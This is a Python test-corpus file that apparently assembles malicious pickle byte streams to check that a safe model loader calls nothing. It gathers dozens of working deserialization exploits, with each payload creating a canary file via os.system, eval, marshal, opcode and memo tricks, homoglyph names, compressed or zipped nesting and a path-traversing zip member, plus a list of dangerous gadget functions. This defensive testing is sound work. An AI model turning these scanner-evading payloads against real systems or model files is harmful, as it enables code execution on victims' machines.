"""A corpus of pickles that want to do something, by every way that is known in public.

Most come from reports on the scanners picklescan, modelscan and fickling, which keep lists of
bad names and follow the opcodes by guess; a machine that calls nothing has no use for a list.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import struct
import zipfile

from assembler import (
    NONE,
    STOP,
    array,
    call,
    dictionary,
    dotted,
    dtype,
    get,
    integer,
    link,
    list_,
    model,
    name,
    names,
    parameter,
    proto,
    put,
    raw,
    text,
    tuple_,
)

MODULE, VARIABLE, ATTRIBUTE = "chainer_ft_canary_module", "CHAINER_FT_CANARY", "chainer_ft_canary"


def armed(canary: str) -> dict[str, bytes]:
    """Pickles that create the file ``canary`` when ``pickle.loads`` gets them.

    Args:
        canary: Path of a file that does not exist, without quotes or spaces.
    """
    touch, code = text(f"touch {canary}"), text(f"open({canary!r}, 'w').close()")
    system, module = name("os", "system"), call(name("importlib", "import_module"), text("os"))
    evil = call(system, touch) + STOP
    function = marshal.dumps(compile(f"open({canary!r}, 'w').close()", "c", "exec"))
    compiled = call(name("builtins", "compile"), code, text("c"), text("exec"))
    calls = {
        "os.system": call(system, touch),
        "posix.system": call(name("posix", "system"), touch),
        "subprocess": call(name("subprocess", "call"), list_(text("touch"), text(canary))),
        "getoutput": call(name("subprocess", "getoutput"), touch),
        "eval": call(name("builtins", "eval"), code),
        "exec": call(name("builtins", "exec"), code),
        "eval split over strings": call(
            call(
                name("builtins", "getattr"),
                call(name("importlib", "import_module"), text("builtins")),
                call(
                    call(name("builtins", "getattr"), text(""), text("join")),
                    list_(text("ev"), text("al")),
                ),
            ),
            code,
        ),
        "python 2 names": proto(2) + call(name("__builtin__", "eval"), code),
        "timeit": call(
            name("timeit", "timeit"), code, text("pass"), name("time", "perf_counter"), integer(1)
        ),
        "cProfile": call(name("cProfile", "runctx"), code, b"}", b"}", text("/dev/null")),
        "profile": call(name("profile", "runctx"), code, b"}", b"}", text("/dev/null")),
        "bdb": call(dotted("bdb", "Bdb.run"), call(name("bdb", "Bdb")), code),
        "code": call(
            dotted("code", "InteractiveInterpreter.runsource"),
            call(name("code", "InteractiveInterpreter")),
            code,
        ),
        "runpy": call(name("runpy", "_run_code"), compiled, b"}"),
        "marshal": call(
            call(name("types", "FunctionType"), call(name("marshal", "loads"), raw(function)), b"}")
        ),
        "attrgetter": call(call(name("operator", "attrgetter"), text("system")), module)
        + tuple_(touch)
        + b"R",
        "methodcaller": call(call(name("operator", "methodcaller"), text("system"), touch), module),
        "getattr": call(call(name("builtins", "getattr"), module, text("system")), touch),
        "resolve_name": call(call(name("pkgutil", "resolve_name"), text("os:system")), touch),
        "partial": call(call(name("functools", "partial"), system, touch)),
        "reduce": call(
            call(
                name("functools", "reduce"),
                name("builtins", "getattr"),
                list_(text("system")),
                module,
            ),
            touch,
        ),
        "map": call(name("builtins", "list"), call(name("builtins", "map"), system, list_(touch))),
        "deque": call(
            name("collections", "deque"), call(name("builtins", "map"), system, list_(touch))
        ),
        "nested pickle": call(name("pickle", "loads"), raw(evil)),
        "nested C pickle": call(name("_pickle", "loads"), raw(evil)),
        "codec": call(
            name("pickle", "loads"),
            call(name("_codecs", "encode"), text(evil.decode("latin-1")), text("latin1")),
        ),
        "runstring": call(name("numpy.testing._private.utils", "runstring"), code, b"}"),
        "FileIO": call(name("_io", "FileIO"), text(canary), text("w")),
        "open": call(name("io", "open"), text(canary), text("w")),
        "Path.touch": call(
            dotted("pathlib", "Path.touch"), call(name("pathlib", "Path"), text(canary))
        ),
        "mkdir": call(name("os", "mkdir"), text(canary)),
        "FileHandler": call(name("logging", "FileHandler"), text(canary)),
        "sqlite": call(name("sqlite3", "connect"), text(canary)),
        "atexit": call(name("atexit", "register"), system, touch),
        "thread": call(
            dotted("threading", "Thread.run"),
            call(name("threading", "Thread"), NONE, system, NONE, tuple_(touch)),
        ),
        "sys.modules": call(
            dotted("os", "sys.modules.__class__.get"), dotted("os", "sys.modules"), text("os")
        )
        + b"0"
        + call(system, touch),
    }
    return {**{key: proto(4) + made + STOP for key, made in calls.items()}, **_opcodes(canary)}


def _opcodes(canary: str) -> dict[str, bytes]:
    """One call, ``os.system``, said in every way that a stream can."""
    touch = text(f"touch {canary}")
    system, args = name("os", "system"), tuple_(touch)
    evil = system + args + b"R"
    command = f"touch {canary}".encode()
    pair = text("os") + text("system") + b"\x93"
    return {
        "INST": b"(" + b"S'" + command + b"'\nios\nsystem\n.",
        "OBJ": b"(" + system + touch + b"o.",
        "NEWOBJ": proto(2) + call(system, touch) + b"0" + name("builtins", "object") + b")\x81.",
        "protocol 0": b"cos\nsystem\n(S'" + command + b"'\ntR.",
        "escaped": b"cos\nsystem\n(S'" + b"".join(b"\\x%02x" % c for c in command) + b"'\ntR.",
        "STACK_GLOBAL": proto(4) + pair + args + b"R.",
        "dotted": proto(4) + dotted("shutil", "os.system") + args + b"R.",
        "names in python 2 strings": proto(4) + b"U\x02osU\x06system\x93" + args + b"R.",
        "names in escapes": proto(4) + b"S'\\x6f\\x73'\nS'\\x73ystem'\n\x93" + args + b"R.",
        "names in unicode escapes": proto(4) + b"V\\u006fs\nVsyst\\u0065m\n\x93" + args + b"R.",
        "names from the memo": proto(4)
        + text("os")
        + put(7)
        + text("system")
        + put(3)
        + b"00"
        + get(7)
        + get(3)
        + b"\x93"
        + args
        + b"R.",
        "memo in confusion": proto(4)
        + text("os")
        + b"q\x00"
        + text("system")
        + b"q\x01"
        + text("torch._utils")
        + b"\x94"
        + text("_rebuild_tensor_v2")
        + b"\x94"
        + b"0000h\x00h\x01\x93"
        + args
        + b"R.",
        "memo written twice": proto(4)
        + text("collections")
        + b"q\x00"
        + text("OrderedDict")
        + b"q\x01"
        + text("os")
        + b"q\x00"
        + text("system")
        + b"q\x010000h\x00h\x01\x93"
        + args
        + b"R.",
        "PUT behind another argument": proto(4)
        + text("os")
        + text("x")
        + b"0q\x000"
        + text("system")
        + text("y")
        + b"0q\x010h\x00h\x01\x93"
        + args
        + b"R.",
        "duplicated names": proto(4) + pair + b"20" + args + b"R.",
        "popped marks": proto(4) + b"(((1" + b"1" + b"1" + pair + b"(0" + args + b"R.",
        "two protocols": proto(4) + proto(0) + proto(2) + evil + STOP,
        "protocol in the middle": system + proto(5) + args + b"R.",
        "frames that lie": proto(4) + b"\x95" + struct.pack("<Q", len(evil) + 1) + evil + STOP,
        "then garbage": proto(4) + evil + b"\xff\xfe garbage",
        "then the end": proto(4) + evil + b"X\xff\xff\xff",
        "then an error": proto(4) + evil + b"0h\xc8.",
        "as a key": b"}" + evil + b"Ns.",
        "in a set": proto(4) + b"\x8f(" + evil + b"\x90.",
        "in a state": proto(2)
        + name("argparse", "Namespace")
        + b")\x81}"
        + text("x")
        + evil
        + b"sb.",
        "as the state": proto(2) + name("argparse", "Namespace") + b")\x81" + evil + b"0Nb.",
        "behind a list": list_(*[integer(i) for i in range(5000)]) + b"0" + evil + STOP,
        "in a model": model(evil),
        "in a registry": model(array(), _params=list_(text("W"), evil)),
        "in an optimizer": proto(2) + link() + b"0" + dictionary(target=evil) + STOP,
        "in an array's shape": model(array(shape=tuple_(evil))),
        "in an array's bytes": model(array(payload=evil)),
        "in an array's dtype": model(array(kind=evil)),
        "in an array of objects": model(array(kind=dtype("O8"), payload=list_(evil, NONE))),
        "instead of ndarray": model(array(first=evil)),
        "in the arguments of a parameter": proto(2)
        + link(_params=names("W"), W=parameter(evil))
        + STOP,
        "reconstructor": call(
            name("copyreg", "_reconstructor"),
            name("builtins", "object"),
            name("builtins", "object"),
            evil,
        )
        + STOP,
        "extension": call(name("copyreg", "add_extension"), text("os"), text("system"), integer(77))
        + b"0\x82\x4d"
        + args
        + b"R.",
    }


def planted(canary: str) -> dict[str, bytes]:
    """Pickles that change or import something else, and those no honest program can load.

    Args:
        canary: Path of a file that none of them must create.
    """
    value, key = text("set"), text(VARIABLE)
    touch = text(f"touch {canary}")
    evil = call(name("os", "system"), touch)
    plain = model(array())
    return {
        "import": name(MODULE, "anything") + STOP,
        "import_module": call(name("importlib", "import_module"), text(MODULE)) + STOP,
        "__import__": call(name("builtins", "__import__"), text(MODULE)) + STOP,
        "import by STACK_GLOBAL": proto(4) + text(MODULE) + text("a.b.c") + b"\x93.",
        "import by INST": f"(i{MODULE}\nA\n.".encode(),
        "import as a model's class": proto(2) + link(name(MODULE, "Net")) + STOP,
        "environment by SETITEM": name("os", "environ") + key + value + b"s.",
        "environment by SETITEMS": name("os", "environ") + b"(" + key + value + b"u.",
        "environment by call": call(dotted("os", "environ.__setitem__"), key, value) + STOP,
        "environment by update": call(dotted("os", "environ.update"), b"}" + key + value + b"s")
        + STOP,
        "scalar of objects": call(
            name("numpy.core.multiarray", "scalar"), dtype("O8"), raw(evil + STOP)
        )
        + STOP,
        "putenv": call(name("os", "putenv"), key, value) + STOP,
        "path by APPEND": name("sys", "path") + text(canary) + b"a.",
        "path by APPENDS": name("sys", "path") + b"(" + text(canary) + b"e.",
        "attribute by BUILD": name("numpy", "prod") + dictionary(**{ATTRIBUTE: value}) + b"b.",
        "attribute by slots": proto(2)
        + name("numpy", "prod")
        + tuple_(NONE, dictionary(**{ATTRIBUTE: value}))
        + b"b.",
        "attribute, then its name": proto(5)
        + name("numpy", "prod")
        + tuple_(NONE, b"}" + text("a") + text("os") + b"s")
        + b"b0"
        + evil
        + STOP,
        "attribute by setattr": call(
            name("builtins", "setattr"), name("numpy", "prod"), text(ATTRIBUTE), value
        )
        + STOP,
        "setstate of a class": proto(2) + name("subprocess", "Popen") + b")\x81" + touch + b"b.",
        "setstate replaced": proto(2)
        + name("argparse", "Namespace")
        + b")\x81"
        + dictionary(__setstate__=name("os", "system"))
        + b"b"
        + touch
        + b"b.",
        "NEWOBJ_EX": proto(4) + name("subprocess", "Popen") + list_(touch)[:-1] + b"e\x85}\x92.",
        "NEWOBJ of a function": proto(2) + name("os", "system") + tuple_(touch) + b"\x81.",
        "__reduce_ex__": call(dotted("builtins", "object.__reduce_ex__"), evil, integer(2)) + STOP,
        "persistent id": b"P" + canary.encode() + b"\n.",
        "binary persistent id": proto(2) + evil + b"Q.",
        "unknown extensions": proto(2) + b"\x82\x01\x83\x01\x00\x84\x01\x00\x00\x00\x87.",
        "buffers out of band": proto(5) + b"\x97\x98.",
        "homoglyph": name("\u043es", "system") + tuple_(touch) + b"R.",
        "full width": name("\uff4f\uff53", "system") + tuple_(touch) + b"R.",
        "names of no text": b"c\xff\xfe\n\x80\n" + tuple_(touch) + b"R.",
        "names of control characters": b"c\x1b[2Jos\nsy\rstem\n" + tuple_(touch) + b"R.",
        "empty names": b"c\n\n)R.",
        "a name of names": proto(4) + list_(text("os")) + text("system") + b"\x93" + STOP,
        "arguments that are no tuple": name("os", "system") + list_(touch) + b"R.",
        "call of a number": integer(5) + tuple_(touch) + b"R.",
        "call of a call": call(call(call(evil))) + STOP,
        "second pickle": plain + evil + STOP,
        "hundred pickles": plain + (evil + STOP) * 100,
        "second pickle, broken": plain + evil + b"\xff",
        "gzip": gzip.compress(evil + STOP),
        "bzip2": bz2.compress(proto(4) + evil + STOP),
        "xz": lzma.compress(proto(4) + evil + STOP),
        "zip": _zip({"model.pkl": proto(2) + evil + STOP}),
        "zip of two": _zip({"data.pkl": proto(2) + evil + STOP, "version": b"3"}),
        "zip in gzip": gzip.compress(_zip({"model.pkl": evil + STOP})),
        "gzip in gzip": gzip.compress(gzip.compress(evil + STOP)),
        "zip that climbs": _zip({"../../" + canary: proto(2) + evil + STOP}),
        **{
            f"gadget {module}.{attribute}": proto(4) + call(dotted(module, attribute), touch) + STOP
            for module, attribute in GADGETS
        },
    }


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return file.getvalue()


#: Functions that run, load or fetch things, and that need more than this machine may have.
GADGETS = [
    ("pip", "main"),
    ("pip._internal", "main"),
    ("ensurepip", "_run_pip"),
    ("venv", "create"),
    ("webbrowser", "open"),
    ("pty", "spawn"),
    ("pdb", "run"),
    ("doctest", "debug_script"),
    ("trace", "Trace.run"),
    ("ctypes", "CDLL"),
    ("ctypes", "pythonapi.system"),
    ("_ctypes", "dlopen"),
    ("_posixsubprocess", "fork_exec"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("asyncio", "run"),
    ("multiprocessing.util", "spawnv_passfds"),
    ("imaplib", "IMAP4_stream"),
    ("mailcap", "findmatch"),
    ("commands", "getoutput"),
    ("imp", "load_source"),
    ("zipimport", "zipimporter"),
    ("importlib.util", "spec_from_file_location"),
    ("site", "addsitedir"),
    ("uuid", "_get_command_stdout"),
    ("_osx_support", "_find_build_tool"),
    ("distutils.file_util", "write_file"),
    ("distutils.spawn", "spawn"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand"),
    ("idlelib.debugobj", "ObjectTreeItem.SetText"),
    ("lib2to3.pgen2.grammar", "Grammar.loads"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
    ("ssl", "get_server_certificate"),
    ("urllib.request", "urlopen"),
    ("socket", "create_connection"),
    ("shutil", "rmtree"),
    ("shelve", "open"),
    ("yaml", "unsafe_load"),
    ("numpy", "load"),
    ("numpy.f2py.crackfortran", "getlincoef"),
    ("numpy.f2py.crackfortran", "_eval_length"),
    ("numpy.distutils.exec_command", "exec_command"),
    ("pandas", "read_pickle"),
    ("joblib", "load"),
    ("dill", "loads"),
    ("dill._dill", "_create_code"),
    ("dill._dill", "_import_module"),
    ("cloudpickle.cloudpickle", "_make_function"),
    ("cloudpickle.cloudpickle", "subimport"),
    ("torch", "load"),
    ("torch.hub", "load"),
    ("torch.storage", "_load_from_bytes"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof"),
    ("torch.utils.collect_env", "run"),
    ("torch.utils._config_module", "ConfigModule.load_config"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch._inductor.codecache", "compile_file"),
    ("tensorflow.python.framework.load_library", "load_op_library"),
    ("chainer.cuda", "os.system"),
    ("chainer.links", "caffe.caffe_function.os.system"),
    ("cupy", "RawModule"),
    ("types", "CodeType"),
    ("builtins", "breakpoint"),
    ("sys", "exit"),
    ("os", "_exit"),
    ("os", "abort"),
    ("antigravity", "webbrowser.open"),
    ("faulthandler", "_sigsegv"),
]
